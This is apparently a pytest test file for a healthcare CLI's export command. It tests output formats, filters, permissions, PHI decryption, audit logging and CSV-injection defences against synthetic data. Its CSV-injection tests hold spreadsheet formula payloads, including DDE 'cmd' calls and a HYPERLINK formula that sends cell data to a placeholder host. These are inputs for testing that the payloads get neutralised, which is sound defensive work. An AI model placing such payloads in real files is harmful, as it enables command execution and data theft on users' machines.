"""``carecli export``: every kind's columns and values, CSV and JSON Lines, filters, permissions, the
per-member audit, streaming batch by batch, and the command itself with API tokens.

One seeded installation (20 synthetic members, with encrypted SSNs and dates of birth, plus a known
member, call and flag) serves the module: the tests only read it, and each in-process export runs as
an actor of its own, so its audit rows are told apart by user id.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import stat
import uuid
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, text
from sqlalchemy.exc import DBAPIError

from carecli.config import load_settings
from carecli.data.actor import Actor
from carecli.data.bulk.catalog import COLUMNS
from carecli.data.bulk.export import FORMULA_TRIGGERS, columns_for, neutralise_cell, parse_where, run_export, stream
from carecli.data.crypto.keystore import open_cipher
from carecli.data.crypto.master import LocalMasterKey, encode_key, generate_master_key
from carecli.data.crypto.phi import DateOfBirth, Ssn
from carecli.data.databases import Databases, create_database_engine
from carecli.data.permissions import ALL_PERMISSIONS
from carecli.data.seeding import seed_demo_data
from carecli.data.unit_of_work import PlatformUnitOfWork
from carecli.errors import ConfigError, PermissionDenied
from carecli.services.auth.tokens import create_api_token
from tests.cli import Result, run_carecli
from tests.conftest import DatabasePair, Server
from tests.platform_fixtures import CLIENT_IP, MEMBER_VALUES, backdate_member, make_actor

SSN, SSN_DIGITS, DOB = "123-45-6789", "123456789", date(1961, 4, 2)
NOTES = 'Line one, with a comma\nline two; "quoted" and a tab\t- done'
CALL_START = datetime(2026, 3, 2, 14, 0)


@dataclass
class Installation:
    """The seeded databases, the master key, and the records the tests look for."""

    pair: DatabasePair
    identity: Engine
    platform: Engine
    master_key: bytes
    member_id: uuid.UUID
    deleted_member_id: uuid.UUID
    call_id: uuid.UUID
    flag_id: uuid.UUID
    enrollment_id: uuid.UUID

    def cipher(self) -> Any:
        return open_cipher(self.platform, LocalMasterKey(self.master_key, "test"))

    def uow(self, actor: Actor) -> PlatformUnitOfWork:
        return PlatformUnitOfWork(self.platform, actor, cipher=self.cipher, user_exists=lambda _: True)

    def sql(self, statement: str, database: str = "platform", **params: Any) -> list[Any]:
        engine = self.identity if database == "identity" else self.platform
        with engine.begin() as connection:
            result = connection.execute(text(statement), params)
            return list(result) if result.returns_rows else []

    def export(self, kind: str, actor: Actor | None = None, *, fmt: str = "csv", where: Sequence[str] = (),
               include_phi: bool = False, batch_size: int = 7) -> list[dict[str, Any]]:
        """Export in-process (small batches, so every export spans several) and parse the output."""
        out = io.StringIO(newline="")
        with self.uow(actor or make_actor()) as uow:
            run_export(uow, kind, out, fmt, conditions=parse_where(kind, where), include_phi=include_phi,
                       identity=self.identity, batch_size=batch_size)
        return parse(out.getvalue(), fmt)

    def audit(self, user_id: uuid.UUID | None, action: str) -> list[Any]:
        return self.sql("SELECT * FROM audit_logs WHERE user_id = :u AND action = :a ORDER BY created_at",
                        u=user_id, a=action)

    def token(self, role: str, scopes: Sequence[str]) -> tuple[str, uuid.UUID]:
        """An API token for the seeded user holding ``role``, and that user's id."""
        user_id, permissions = self.sql("SELECT u.id, r.permissions FROM users u JOIN roles r ON r.id = u.role_id "
                                        "WHERE r.name = :r ORDER BY u.id LIMIT 1", "identity", r=role)[0]
        actor = Actor.create(user_id, permissions, channel="cli", role=role)
        databases = Databases(identity=self.identity, platform=self.platform)
        return create_api_token(databases, actor, name=f"export {role}", scopes=scopes).secret, user_id

    def cli(self, *args: str, token: str | None = None, process: bool = False) -> Result:
        env = {**self.pair.env, "CARECLI_MASTER_KEY": encode_key(self.master_key),
               "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring"}
        if token:
            env["CARECLI_TOKEN"] = token
        return run_carecli("export", *args, env=env, process=process)


def parse(output: str, fmt: str) -> list[dict[str, Any]]:
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(output, newline="")))
    return [json.loads(line) for line in output.splitlines()]


def header(output: str) -> list[str]:
    return next(csv.reader(io.StringIO(output, newline="")))


@pytest.fixture(scope="module")
def site(pg_server: Server, template_pair: DatabasePair) -> Iterator[Installation]:
    pair = DatabasePair(pg_server.create_database("identity", template=template_pair.identity),
                        pg_server.create_database("platform", template=template_pair.platform), pg_server)
    settings = load_settings({})
    identity = create_database_engine(pair.url("identity"), settings)
    platform = create_database_engine(pair.url("platform"), settings)
    key = generate_master_key()
    seed_demo_data(identity, platform, members=20, seed=11, cipher=open_cipher(platform, LocalMasterKey(key, "test")))
    site = Installation(pair, identity, platform, key, *(uuid.UUID(int=0),) * 5)
    with site.uow(make_actor(role="admin")) as uow:
        member = uow.members.create(MEMBER_VALUES, ssn=Ssn(SSN), dob=DateOfBirth(DOB))
        uow.metadata.put("member", member.id, "external_member_number", "EMN-0001")
        backdate_member(uow.connection, member.id)  # on file before the call below
        specialist_id = site.sql("SELECT id FROM specialists WHERE is_active ORDER BY id LIMIT 1")[0][0]
        call = uow.calls.create({"member_id": member.id, "specialist_id": specialist_id, "call_type": "outreach",
                                 "call_status": "completed", "started_at": CALL_START,
                                 "ended_at": datetime(2026, 3, 2, 14, 12), "call_notes": NOTES})
        uow.metadata.put("call_record", call.id, "external_id", "CALL-42")
        flag = uow.risk_flags.raise_from_call(call.id, risk_type="medical", severity="high",
                                              description="Needs a, follow-up\nsoon")
        uow.metadata.put("risk_flag", flag.id, "external_id", "FLAG-7")
        # A plan in effect on the enrollment date (the seed also keeps last year's expired plans).
        plan_id = site.sql("SELECT id FROM insurance_plans WHERE coalesce(effective_date, '2026-01-01') <= "
                           "'2026-01-01' AND coalesce(expiration_date, '2026-01-01') >= '2026-01-01' "
                           "ORDER BY plan_code LIMIT 1")[0][0]
        enrollment = uow.enrollments.enroll(member.id, plan_id, date(2026, 1, 1), is_primary=True,
                                            notes="enrolled, by phone")
        uow.commit()
    site.member_id, site.call_id, site.flag_id, site.enrollment_id = member.id, call.id, flag.id, enrollment.id
    site.deleted_member_id = site.sql("UPDATE members SET deleted_at = now() WHERE id = "
                                      "(SELECT id FROM members WHERE id <> :m AND deleted_at IS NULL ORDER BY id "
                                      "LIMIT 1) RETURNING id", m=member.id)[0][0]
    # One soft-deleted specialist-plan link: it must not show in plan_codes.
    site.sql("UPDATE specialist_insurance_plans SET deleted_at = now() WHERE id = "
             "(SELECT id FROM specialist_insurance_plans ORDER BY id LIMIT 1)")
    try:
        yield site
    finally:
        identity.dispose()
        platform.dispose()
        pg_server.drop_database(pair.identity)
        pg_server.drop_database(pair.platform)


def live_ids(site: Installation, table: str) -> list[str]:
    return [str(row[0]) for row in site.sql(f"SELECT id FROM {table} WHERE deleted_at IS NULL ORDER BY id")]


# -- each kind ------------------------------------------------------------------------------------


def test_members_without_phi_omit_ssn_and_dob_and_audit_a_read_per_member(site: Installation) -> None:
    actor = make_actor()
    rows = site.export("members", actor)
    assert list(rows[0]) == [name for name in COLUMNS["members"] if name not in ("ssn", "dob")]
    ids = [row["id"] for row in rows]
    assert ids == live_ids(site, "members") and str(site.deleted_member_id) not in ids
    mine = next(row for row in rows if row["id"] == str(site.member_id))
    assert mine == {"id": str(site.member_id), "external_member_number": "EMN-0001", "address_line2": "",
                    "status": "active", **MEMBER_VALUES, "phone": "+15035550100"}  # stored normalised (E.164)
    assert {row["external_member_number"] for row in rows if row is not mine} == {""}

    reads = site.audit(actor.user_id, "read")
    assert sorted(str(row.entity_id) for row in reads) == sorted(ids)
    assert {(row.entity_type, json.dumps(row.new_values, sort_keys=True)) for row in reads} == {
        ("member", json.dumps({"fields": ["contact"], "purpose": "export"}, sort_keys=True))}
    assert {(str(row.ip_address), row.user_agent) for row in reads} == {(CLIENT_IP, actor.user_agent)}
    (summary,) = site.audit(actor.user_id, "export")
    assert summary.entity_type == "export" and summary.new_values == {
        "kind": "members", "format": "csv", "rows": len(ids), "include_phi": False, "where": [], "completed": True}


def test_members_with_phi_decrypt_ssn_and_dob_and_audit_those_fields(site: Installation) -> None:
    actor = make_actor()
    rows = site.export("members", actor, fmt="jsonl", include_phi=True)
    assert list(rows[0]) == list(COLUMNS["members"])
    mine = next(row for row in rows if row["id"] == str(site.member_id))
    assert (mine["ssn"], mine["dob"], mine["address_line2"]) == (SSN_DIGITS, DOB.isoformat(), None)
    for row in rows:  # the seed's synthetic values decrypt too, bound to their own member
        assert re.fullmatch(r"\d{9}", row["ssn"]) and date.fromisoformat(row["dob"]) < date.today()

    reads = site.audit(actor.user_id, "read")
    assert len(reads) == len(rows) == len({row.entity_id for row in reads})
    assert {tuple(row.new_values["fields"]) for row in reads} == {("contact", "dob", "ssn")}
    audit_text = " ".join(str(tuple(row)) for row in site.sql("SELECT * FROM audit_logs"))
    assert SSN_DIGITS not in audit_text and DOB.isoformat() not in audit_text


def test_plans_in_csv_and_jsonl(site: Installation) -> None:
    stored = {str(row.id): row for row in site.sql("SELECT * FROM insurance_plans ORDER BY id")}
    as_csv, as_jsonl = site.export("plans"), site.export("plans", fmt="jsonl")
    assert [row["id"] for row in as_csv] == [row["id"] for row in as_jsonl] == live_ids(site, "insurance_plans")
    assert list(as_csv[0]) == list(COLUMNS["plans"])
    for cells, document in zip(as_csv, as_jsonl):
        plan = stored[cells["id"]]
        assert cells["coverage_details"] == json.dumps(plan.coverage_details, separators=(",", ":"))
        assert document["coverage_details"] == plan.coverage_details
        for name in ("premium_amount", "deductible_amount", "copay_amount"):
            assert cells[name] == document[name] == str(getattr(plan, name))  # "392.38": exact, as text
        assert cells["is_active"] == str(plan.is_active).lower() and document["is_active"] is plan.is_active
        assert cells["effective_date"] == document["effective_date"] == plan.effective_date.isoformat()
        assert cells["plan_code"] == document["plan_code"] == plan.plan_code
    assert site.sql("SELECT count(*) FROM audit_logs WHERE action = 'read' AND entity_id IN "
                    "(SELECT id FROM insurance_plans)")[0][0] == 0


def test_enrollments_name_the_plan_by_code_and_the_member_by_number(site: Installation) -> None:
    rows = site.export("enrollments")
    assert list(rows[0]) == list(COLUMNS["enrollments"])
    assert [row["id"] for row in rows] == live_ids(site, "member_insurance_plans")
    codes = dict(site.sql("SELECT e.id::text, p.plan_code FROM member_insurance_plans e "
                          "JOIN insurance_plans p ON p.id = e.insurance_plan_id"))
    assert all(row["plan_code"] == codes[row["id"]] for row in rows)
    mine = next(row for row in rows if row["id"] == str(site.enrollment_id))
    assert mine["member_id"] == str(site.member_id) and mine["external_member_number"] == "EMN-0001"
    assert (mine["enrollment_date"], mine["is_primary"], mine["status"]) == ("2026-01-01", "true", "active")
    assert (mine["coverage_percentage"], mine["notes"], mine["termination_date"]) == (
        "100.00", "enrolled, by phone", "")


def test_specialists_carry_their_user_email_and_live_plan_codes(site: Installation) -> None:
    rows = site.export("specialists", fmt="jsonl", batch_size=3)
    assert list(rows[0]) == list(COLUMNS["specialists"])
    assert [row["id"] for row in rows] == live_ids(site, "specialists")
    emails = dict(site.sql("SELECT id, email FROM users", "identity"))
    codes: dict[str, list[str]] = {}
    for specialist_id, code in site.sql("SELECT l.specialist_id::text, p.plan_code FROM specialist_insurance_plans l "
                                        "JOIN insurance_plans p ON p.id = l.insurance_plan_id "
                                        "WHERE l.deleted_at IS NULL"):
        codes.setdefault(specialist_id, []).append(code)
    users = dict(site.sql("SELECT id::text, user_id FROM specialists"))
    for row in rows:
        assert row["user_email"] == emails[users[row["id"]]]
        assert row["plan_codes"] == (";".join(sorted(codes[row["id"]])) if row["id"] in codes else None)
    assert isinstance(rows[0]["is_active"], bool)


def test_calls_keep_notes_with_newlines_and_commas_and_iso_timestamps(site: Installation) -> None:
    rows = site.export("calls")
    assert list(rows[0]) == list(COLUMNS["calls"])
    assert [row["id"] for row in rows] == live_ids(site, "call_records")
    mine = next(row for row in rows if row["id"] == str(site.call_id))
    assert mine["call_notes"] == NOTES
    assert (mine["started_at"], mine["ended_at"], mine["duration_seconds"]) == (
        "2026-03-02T14:00:00", "2026-03-02T14:12:00", "720")
    assert (mine["external_id"], mine["member_id"], mine["follow_up_required"]) == (
        "CALL-42", str(site.member_id), "false")
    assert {(row["specialist_email"], row["external_member_number"]) for row in rows} == {("", "")}
    assert {row["external_id"] for row in rows if row is not mine} == {""}
    stamps = [row["scheduled_at"] for row in rows if row["scheduled_at"]]
    assert stamps and all(datetime.fromisoformat(s).tzinfo is None and "T" in s for s in stamps)
    as_json = next(row for row in site.export("calls", fmt="jsonl") if row["id"] == str(site.call_id))
    assert as_json["call_notes"] == NOTES and as_json["duration_seconds"] == 720


def test_flags(site: Installation) -> None:
    rows = site.export("flags", fmt="jsonl")
    assert list(rows[0]) == list(COLUMNS["flags"])
    assert [row["id"] for row in rows] == live_ids(site, "risk_flags")
    mine = next(row for row in rows if row["id"] == str(site.flag_id))
    assert mine == {"id": str(site.flag_id), "external_id": "FLAG-7", "call_record_id": str(site.call_id),
                    "call_external_id": None, "member_id": str(site.member_id), "external_member_number": None,
                    "specialist_id": mine["specialist_id"], "specialist_email": None, "risk_type": "medical",
                    "severity": "high", "description": "Needs a, follow-up\nsoon", "resolved": False,
                    "resolved_at": None, "resolution_note": None}


def test_flags_say_whether_and_when_they_were_resolved_and_import_back_unchanged(site: Installation) -> None:
    from carecli.data.bulk.loader import run_import
    from carecli.data.bulk.readers import Columns, read_records
    from carecli.data.bulk.registry import kind_for

    other = site.sql("SELECT id FROM risk_flags WHERE deleted_at IS NULL AND id <> :f ORDER BY id LIMIT 1",
                     f=site.flag_id)[0][0]
    with site.uow(make_actor(role="admin")) as uow:
        flag = uow.risk_flags.get(other)
        uow.risk_flags.resolve(other, flag.updated_at, "Called back, all fine, now\nwith a line break")
        uow.commit()
    rows = {row["id"]: row for row in site.export("flags")}
    resolved = rows[str(other)]
    assert resolved["resolved"] == "true"
    assert resolved["resolution_note"] == "Called back, all fine, now\nwith a line break"
    assert datetime.fromisoformat(resolved["resolved_at"]).date() == date.today()
    assert (rows[str(site.flag_id)]["resolved"], rows[str(site.flag_id)]["resolved_at"]) == ("false", "")

    out = io.StringIO(newline="")
    with site.uow(make_actor()) as uow:
        run_export(uow, "flags", out, "csv")
    importer = kind_for("flags")
    records = read_records(io.BytesIO(out.getvalue().encode()), "csv", Columns(importer.columns, {}),
                           required=importer.required_columns)
    problems: list[Any] = []
    summary = run_import(importer, records, engine=site.platform, actor=make_actor(role="admin"),
                         cipher=site.cipher, blind_index=lambda: None, on_problem=problems.append, dry_run=True,
                         identity=site.identity)
    assert problems == [] and (summary.created, summary.updated, summary.unchanged) == (0, 0, len(rows))


# -- filters ----------------------------------------------------------------------------------------


def test_where_filters_are_typed_and_anded(site: Installation) -> None:
    def ids(kind: str, table: str, condition: str, *where: str) -> tuple[list[str], list[str]]:
        got = [row["id"] for row in site.export(kind, where=where)]
        want = [str(r[0]) for r in site.sql(f"SELECT id FROM {table} WHERE deleted_at IS NULL AND {condition} "
                                            "ORDER BY id")]
        return got, want

    for kind, table, condition, where in [
        ("members", "members", "status = 'active'", ["status=active"]),
        ("members", "members", "status <> 'active'", ["status != active"]),
        ("members", "members", "last_name LIKE 'Oka%'", ["last_name ~ Oka"]),
        ("members", "members", "address_line2 IS NULL AND status = 'active'", ["address_line2=", "status='active'"]),
        ("calls", "call_records", "started_at >= '2026-03-02 14:00'", ["started_at>=2026-03-02T14:00"]),
        ("calls", "call_records", "follow_up_required", ["follow_up_required=yes"]),
        ("plans", "insurance_plans", "NOT is_active", ["is_active=false"]),
        ("plans", "insurance_plans", "premium_amount < 500", ["premium_amount<500"]),
        ("enrollments", "member_insurance_plans", "enrollment_date >= '2026-01-01' AND is_primary",
         ["enrollment_date>=2026-01-01", "is_primary=true"]),
        ("flags", "risk_flags", "severity >= 'h' AND severity <= 'high'", ["severity>=h", "severity<=high"]),
    ]:
        got, want = ids(kind, table, condition, *where)
        assert got == want, (kind, where)
    assert str(site.member_id) in ids("members", "members", "true", "last_name~Oka")[0]

    actor = make_actor()
    site.export("members", actor, where=["status=active", "last_name~Ok"])
    (summary,) = site.audit(actor.user_id, "export")
    assert summary.new_values["where"] == ["status", "last_name"]  # the columns, never the values
    assert "Ok" not in json.dumps(summary.new_values)


@pytest.mark.parametrize(("kind", "expression", "message"), [
    ("members", "nickname=Ada", "--where nickname: members have no such column"),
    ("members", "ssn=123456789", "--where ssn: exports cannot filter on SSN or date of birth"),
    ("members", "dob<1970-01-01", "--where dob: exports cannot filter on SSN or date of birth"),
    ("members", "encrypted_ssn=", "--where encrypted_ssn: exports cannot filter"),
    ("members", "deleted_at>2020-01-01", "--where deleted_at: members have no such column"),
    ("members", "created_at>=last tuesday", "--where created_at: the value must be a date and time"),
    ("members", "created_at~2024", "--where created_at: the operator ~ does not apply"),
    ("members", "status", "--where must look like 'column OP value'"),
    ("members", "status>", "--where status: > needs a value"),
    ("plans", "coverage_details=x", "--where coverage_details: this column cannot be filtered on"),
    ("plans", "is_active<true", "--where is_active: the operator < does not apply"),
    ("calls", "duration_seconds>9 minutes", "--where duration_seconds: the value must be a whole number"),
    ("enrollments", "member_id=Ada Okafor", "--where member_id: the value must be an id"),
])
def test_bad_where_is_a_usage_error_that_names_the_column_not_the_value(kind: str, expression: str,
                                                                        message: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_where(kind, [expression])
    assert str(caught.value).startswith(message)
    value = re.split(r"[=<>~]+", expression, maxsplit=1)[-1].strip()
    assert not value or value not in caught.value.message


# -- permissions ------------------------------------------------------------------------------------


def _refused(site: Installation, actor: Actor, kind: str, *, include_phi: bool = False) -> str:
    out = io.StringIO()
    with pytest.raises(PermissionDenied) as caught, site.uow(actor) as uow:
        run_export(uow, kind, out, "csv", include_phi=include_phi, identity=site.identity)
    assert out.getvalue() == ""
    assert site.audit(actor.user_id, "read") == [] and site.audit(actor.user_id, "export") == []
    return str(caught.value)


def test_export_needs_export_run_and_the_role_read_permission(site: Installation) -> None:
    reader = make_actor(["members:read", "phi:reveal"], role="auditor")
    assert _refused(site, reader, "members") == "auditor may not export members: it needs the 'export:run' permission"
    (denial,) = site.audit(reader.user_id, "deny")
    assert (denial.entity_type, denial.new_values) == (
        "export", {"operation": "export members", "permission": "export:run"})

    exporter = make_actor(["export:run"], role="exporter")
    for kind in ("members", "enrollments", "specialists", "calls", "flags"):
        assert "it needs the 'members:read' permission" in _refused(site, exporter, kind)
    assert len(site.export("plans", exporter)) > 0  # the plan catalog needs nothing more


def test_a_token_needs_the_export_scope_but_not_the_read_scope(site: Installation) -> None:
    narrow = make_actor(ALL_PERMISSIONS, role="admin", scopes=["members:read", "phi:reveal"])
    message = _refused(site, narrow, "members")
    assert "this API token may not export members: it lacks the 'export:run' scope" in message
    assert [row.new_values["permission"] for row in site.audit(narrow.user_id, "deny")] == ["export:run"]
    scoped = make_actor(ALL_PERMISSIONS, role="admin", scopes=["export:run"])
    assert len(site.export("members", scoped)) == len(live_ids(site, "members"))


def test_include_phi_needs_phi_reveal_from_the_role_and_the_token(site: Installation) -> None:
    importer = make_actor(["export:run", "members:read"], role="importer")
    assert "importer may not export SSN and date of birth" in _refused(site, importer, "members", include_phi=True)
    (denial,) = site.audit(importer.user_id, "deny")
    assert denial.new_values == {"operation": "export members", "permission": "phi:reveal"}
    token = make_actor(ALL_PERMISSIONS, role="admin", scopes=["export:run", "members:read"])
    assert _refused(site, token, "members", include_phi=True) == (
        "this API token may not export SSN and date of birth: it lacks the 'phi:reveal' scope\n"
        "  hint: export without --include-phi")
    with pytest.raises(ConfigError, match="applies to members only"), site.uow(make_actor()) as uow:
        run_export(uow, "plans", io.StringIO(), "csv", include_phi=True)


# -- streaming and failing closed ----------------------------------------------------------------------


class RecordingOutput(io.StringIO):
    """Output that remembers how many records had been written at each flush."""

    def __init__(self) -> None:
        super().__init__(newline="")
        self.flushed_at: list[int] = []

    def flush(self) -> None:
        self.flushed_at.append(len(parse(self.getvalue(), "csv")))


def test_rows_stream_batch_by_batch_each_audited_before_it_is_handed_out(site: Installation) -> None:
    actor = make_actor()
    with site.uow(actor) as uow:
        batches = stream(uow, "members", include_phi=True, batch_size=4)
        assert site.audit(actor.user_id, "read") == []  # nothing runs before the first batch is asked for
        first = next(batches)
        assert len(first) == 4 and len(site.audit(actor.user_id, "read")) == 4  # committed, visible elsewhere
        # The query is still open on a server-side cursor: the rest has not been fetched yet.
        cursors = uow.connection.exec_driver_sql("SELECT statement FROM pg_cursors WHERE name <> ''").scalars().all()
        assert len(cursors) == 1 and cursors[0].startswith("DECLARE") and "FROM members" in cursors[0]
        assert len(next(batches)) == 4 and len(site.audit(actor.user_id, "read")) == 8
        rest = sum(len(batch) for batch in batches)
    assert 8 + rest == len(site.audit(actor.user_id, "read")) == len(live_ids(site, "members"))
    assert columns_for("members", True)[4:6] == ("ssn", "dob") and first[0][4].isdigit()

    out = RecordingOutput()
    with site.uow(make_actor()) as uow:
        result = run_export(uow, "calls", out, "csv", batch_size=5)
    # A flush after every batch of five, as they come (not all at the end).
    assert out.flushed_at[:3] == [5, 10, 15]
    assert result.rows == len(live_ids(site, "call_records"))


def test_a_failing_audit_insert_stops_the_export_before_the_batch_is_written(site: Installation) -> None:
    actor = make_actor()
    site.sql("ALTER TABLE audit_logs ADD CONSTRAINT test_block CHECK (false) NOT VALID")
    try:
        out = io.StringIO(newline="")
        with pytest.raises(DBAPIError), site.uow(actor) as uow:
            run_export(uow, "members", out, "csv", include_phi=True, identity=site.identity)
    finally:
        site.sql("ALTER TABLE audit_logs DROP CONSTRAINT test_block")
    assert out.getvalue().splitlines() == [",".join(COLUMNS["members"])]  # the header, no member
    assert site.audit(actor.user_id, "read") == []


# -- the command --------------------------------------------------------------------------------------


def test_cli_writes_a_private_file_with_phi_and_a_json_summary(site: Installation, tmp_path: Path) -> None:
    token, user_id = site.token("admin", ["export:run", "phi:reveal"])
    target = tmp_path / "members.csv"
    out = site.cli("members", "--include-phi", "--out", str(target), "--json", token=token)
    assert out.code == 0, out.err
    assert out.out == ""
    summary = json.loads(out.err)
    rows = parse(target.read_text(encoding="utf-8"), "csv")
    assert summary == {"kind": "members", "rows": len(rows), "format": "csv", "include_phi": True,
                       "seconds": summary["seconds"], "out": str(target)}
    assert next(row for row in rows if row["id"] == str(site.member_id))["ssn"] == SSN_DIGITS
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert os.listdir(tmp_path) == ["members.csv"]  # the temporary file was renamed, nothing left beside it
    assert SSN_DIGITS not in out.err and "Okafor" not in out.err
    assert len(site.audit(user_id, "read")) == len(rows)


def test_cli_streams_to_standard_output_in_the_format_asked_for(site: Installation, tmp_path: Path) -> None:
    token, _ = site.token("importer", ["export:run"])
    out = site.cli("plans", "--format", "jsonl", token=token)
    assert out.code == 0, out.err
    plans = parse(out.out, "jsonl")
    assert len(plans) == len(live_ids(site, "insurance_plans"))
    assert re.fullmatch(rf"exported {len(plans)} plans to standard output in \d+\.\ds\n", out.err)
    by_name = site.cli("members", "--out", str(tmp_path / "m.ndjson"), "--where", "status=active", token=token)
    assert by_name.code == 0, by_name.err
    members = parse((tmp_path / "m.ndjson").read_text(encoding="utf-8"), "jsonl")
    assert members and {row["status"] for row in members} == {"active"} and "ssn" not in members[0]


def test_cli_refuses_a_token_without_the_export_scope_and_phi_without_phi_reveal(site: Installation,
                                                                                tmp_path: Path) -> None:
    token, user_id = site.token("admin", ["members:read"])
    out = site.cli("members", "--out", str(tmp_path / "m.csv"), token=token)
    assert out.code == 1 and "lacks the 'export:run' scope" in out.err
    assert [row.new_values for row in site.audit(user_id, "deny")] == [
        {"operation": "export members", "permission": "export:run"}]

    importer, importer_id = site.token("importer", ["export:run", "members:read"])
    reads = len(site.audit(importer_id, "read"))
    out = site.cli("members", "--include-phi", "--out", str(tmp_path / "m.csv"), token=importer)
    assert out.code == 1 and "may not export SSN and date of birth" in out.err
    assert os.listdir(tmp_path) == []
    assert len(site.audit(importer_id, "read")) == reads


def test_cli_usage_errors_exit_2_before_signing_in(site: Installation) -> None:
    for args, message in [(("members", "--where", "ssn=123456789"), "cannot filter on SSN"),
                          (("patients",), "unknown kind 'patients'"),
                          (("members", "--format", "xml"), "Invalid value for '--format'")]:
        out = site.cli(*args)
        assert out.code == 2 and message in out.err and "123456789" not in out.err


def test_cli_failed_export_leaves_no_file(site: Installation, tmp_path: Path) -> None:
    token, _ = site.token("admin", ["export:run"])
    target = tmp_path / "members.csv"
    site.sql("ALTER TABLE audit_logs ADD CONSTRAINT test_block CHECK (false) NOT VALID")
    try:
        out = site.cli("members", "--out", str(target), token=token)
    finally:
        site.sql("ALTER TABLE audit_logs DROP CONSTRAINT test_block")
    assert out.code == 1 and out.err.startswith("carecli: database error:") and "audit_logs" in out.err
    assert os.listdir(tmp_path) == []


def test_standard_output_is_utf8_bytes_without_deprecated_click_calls(
        capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    # click.get_binary_stream warns (DeprecationWarning, Click 8.5) and is gone in Click 9.
    import warnings

    from carecli.cli.export_cmd import _standard_output

    with warnings.catch_warnings():
        warnings.simplefilter("error", DeprecationWarning)
        with _standard_output() as out:
            out.write("Zoë,Ōta\n")
    assert capfdbinary.readouterr().out == "Zoë,Ōta\n".encode("utf-8")


# -- CSV injection ----------------------------------------------------------------------------------------

#: member columns set to what a spreadsheet would run as a formula (OWASP "CSV Injection")
HOSTILE = {
    "first_name": "=cmd|' /C calc'!A0",
    "last_name": '+HYPERLINK("http://example.invalid/?d="&A1,"Open, please")',  # a comma and quotes inside
    "email": "@SUM(1+9)*cmd|' /C calc'!A0",
    "address_line1": "-2+3+cmd|' /C calc'!A0",
    "address_line2": "\t=1+2",
    "city": "\r=1+2",
}
HOSTILE_NUMBER = "\n=HYPERLINK(\"http://example.invalid\")"  # the external member number, a line feed first


@pytest.fixture
def hostile(site: Installation) -> Iterator[str]:
    """A live member whose text columns start with formula characters (written past the app's checks, as
    old or imported data may be), the phone a valid E.164 number and the ZIP a signed plain number; the id.
    Soft-deleted afterwards, so the other tests' exports do not see it."""
    with site.uow(make_actor(role="admin")) as uow:
        member = uow.members.create({**MEMBER_VALUES, "first_name": "Hostile", "phone": "(503) 555-0199"})
        uow.metadata.put("member", member.id, "external_member_number", HOSTILE_NUMBER)
        uow.commit()
    sets = ", ".join(f"{name} = :{name}" for name in HOSTILE)
    site.sql(f"UPDATE members SET {sets}, zip_code = '-42' WHERE id = :id", id=member.id, **HOSTILE)
    try:
        yield str(member.id)
    finally:
        site.sql("UPDATE members SET deleted_at = now() WHERE id = :id", id=member.id)
        site.sql("UPDATE metadata SET deleted_at = now() WHERE entity_id = :id", id=member.id)


def test_csv_cells_that_would_run_as_formulas_get_a_leading_quote_unless_raw(site: Installation,
                                                                             hostile: str) -> None:
    expected = {**HOSTILE, "external_member_number": HOSTILE_NUMBER}
    row = next(row for row in site.export("members") if row["id"] == hostile)
    # Each cell comes back whole (the comma, quotes and line breaks inside stay in it), with the quote.
    assert {name: row[name] for name in expected} == {name: "'" + value for name, value in expected.items()}
    # Plain signed numbers are not formulas: the E.164 phone (which import would refuse quoted) and -42.
    assert (row["phone"], row["zip_code"], row["first_name"][:2]) == ("+15035550199", "-42", "'=")

    with site.uow(make_actor()) as uow:
        out = io.StringIO(newline="")
        run_export(uow, "members", out, "csv", raw=True)
    raw = next(row for row in parse(out.getvalue(), "csv") if row["id"] == hostile)
    assert {name: raw[name] for name in expected} == expected
    document = next(row for row in site.export("members", fmt="jsonl") if row["id"] == hostile)
    assert {name: document[name] for name in expected} == expected  # JSON Lines: never escaped


def test_cli_neutralises_csv_by_default_and_raw_turns_it_off(site: Installation, hostile: str,
                                                             tmp_path: Path) -> None:
    token, _ = site.token("admin", ["export:run"])
    for args, prefix in [((), "'"), (("--raw",), "")]:
        target = tmp_path / "members.csv"
        out = site.cli("members", "--out", str(target), *args, token=token)
        assert out.code == 0, out.err
        with target.open(encoding="utf-8", newline="") as file:  # the carriage return as written
            row = next(row for row in parse(file.read(), "csv") if row["id"] == hostile)
        assert {name: row[name] for name in HOSTILE} == {name: prefix + value for name, value in HOSTILE.items()}
        assert row["phone"] == "+15035550199"
    out = site.cli("members", "--format", "jsonl", "--raw", token=token)  # --raw changes nothing in JSON Lines
    assert out.code == 0, out.err
    document = next(row for row in parse(out.out, "jsonl") if row["id"] == hostile)
    assert {name: document[name] for name in HOSTILE} == HOSTILE


_FORMULA_START = st.sampled_from(sorted(FORMULA_TRIGGERS) + ["", "'", "a", "1", " ="])


@settings(max_examples=300, deadline=None)
@given(value=st.one_of(st.tuples(_FORMULA_START, st.text(max_size=20)).map("".join),
                       st.from_regex(r"[+-][0-9]{1,15}(\.[0-9]{1,4})?", fullmatch=True)))
def test_a_neutralised_cell_never_starts_a_formula_and_only_ever_gains_one_quote(value: str) -> None:
    cell = neutralise_cell(value)
    assert cell in (value, "'" + value)
    if cell[:1] in FORMULA_TRIGGERS:  # left alone only as a plain signed number, nothing to run
        assert cell == value and re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", cell)
    assert neutralise_cell(cell) == cell  # once is enough: the quote is not a trigger
    # As a CSV cell it reads back whole, whatever separators, quotes or line breaks it holds.
    text = io.StringIO(newline="")
    csv.writer(text).writerow(["x", cell, "y"])
    assert next(csv.reader(io.StringIO(text.getvalue(), newline=""))) == ["x", cell, "y"]


# -- where --out may write ------------------------------------------------------------------------------------


def _refused_out(site: Installation, target: str, what: str, **options: Any) -> None:
    """``--out target`` is a usage error naming ``what`` and the rule, before anything is read (no audit row)."""
    token, user_id = site.token("admin", ["export:run"])
    exports = len(site.audit(user_id, "export"))
    out = site.cli("plans", "--out", target, token=token, **options)
    assert out.code == 2, (out.code, out.err)
    assert f"--out {target} is {what}: --out writes only a regular file (replaced whole) or a new file" in out.err
    assert len(site.audit(user_id, "export")) == exports


